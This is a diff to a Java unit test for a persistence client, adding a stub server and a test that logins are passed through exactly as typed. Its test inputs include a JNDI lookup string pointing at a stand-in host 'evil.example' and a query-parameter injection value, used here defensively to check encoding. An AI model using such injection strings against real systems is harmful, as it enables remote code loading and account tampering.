@@ -5,8 +5,11 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.io.IOException;
 import java.net.InetSocketAddress;
 import java.net.URI;
+import java.net.URLDecoder;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
+import java.util.List;
+import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.concurrent.Executors;
 import java.util.concurrent.atomic.AtomicInteger;
 
@@ -38,6 +41,11 @@ class PersistenceClientTests {
 
 	private final AtomicInteger requests = new AtomicInteger();
 
+	/**
+	 * The logins persistence-service was asked for, decoded as Tomcat decodes a query.
+	 */
+	private final List<String> askedFor = new CopyOnWriteArrayList<>();
+
 	private HttpServer server;
 
 	private PersistenceClient client;
@@ -48,6 +56,12 @@ class PersistenceClientTests {
 		this.server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
 		this.server.createContext("/internal/users/by-login", (exchange) -> {
 			this.requests.incrementAndGet();
+			String query = exchange.getRequestURI().getRawQuery();
+			this.askedFor.add(URLDecoder.decode(query.substring(query.indexOf('=') + 1), StandardCharsets.UTF_8));
+			if (this.askedFor.getLast().startsWith("unknown")) {
+				answer(exchange, 404, "{\"status\":404}");
+				return;
+			}
 			answer(exchange, 400, "{\"status\":400,\"detail\":\"login: size must be between 0 and 320\"}");
 		});
 		this.server.start();
@@ -85,6 +99,19 @@ class PersistenceClientTests {
 
 		assertThat(this.requests).as("a refused lookup is an answer: no retries").hasValue(30);
 		assertThat(this.client.resilience().circuitBreaker().getState()).isEqualTo(CircuitBreaker.State.CLOSED);
+	}
+
+	@Test
+	void aLoginReachesPersistenceExactlyAsTypedWhateverItsCharacters() {
+		List<String> logins = List.of("unknown+tag@example.com", "unknown${jndi:ldap://evil.example/a}", "unknown{0}",
+				"unknown&login=admin", "unknown%41 b=c", "unknowné漢");
+
+		for (String login : logins) {
+			assertThat(this.client.findUserByLogin(login)).as(login).isEmpty();
+		}
+
+		assertThat(this.askedFor).containsExactlyElementsOf(logins);
+		assertThat(this.client.resilience().circuitBreaker().getMetrics().getNumberOfFailedCalls()).isZero();
 	}
 
 	private static void answer(HttpExchange exchange, int status, String body) throws IOException {
